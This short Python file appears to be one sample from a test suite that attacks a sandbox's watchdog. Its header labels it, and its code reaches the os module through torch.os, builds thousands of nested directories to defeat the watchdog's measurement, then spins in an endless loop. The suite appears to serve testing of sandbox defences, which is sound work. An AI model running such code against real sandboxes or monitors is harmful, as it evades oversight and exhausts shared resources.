# attack: blinds the watchdog by folders too deep to be measured, then loops for ever
# layer: watchdog
# where: construct
# status: timed_out
# score: none
import torch

os = torch.os


def attack():
    try:
        folder = os.open(os.environ.get("TMPDIR", "."), os.O_RDONLY)
        for _ in range(3000):
            os.mkdir("d" * 60, dir_fd=folder)
            below = os.open("d" * 60, os.O_RDONLY, dir_fd=folder)
            os.close(folder)
            folder = below
    except OSError:
        pass
    while True:
        pass
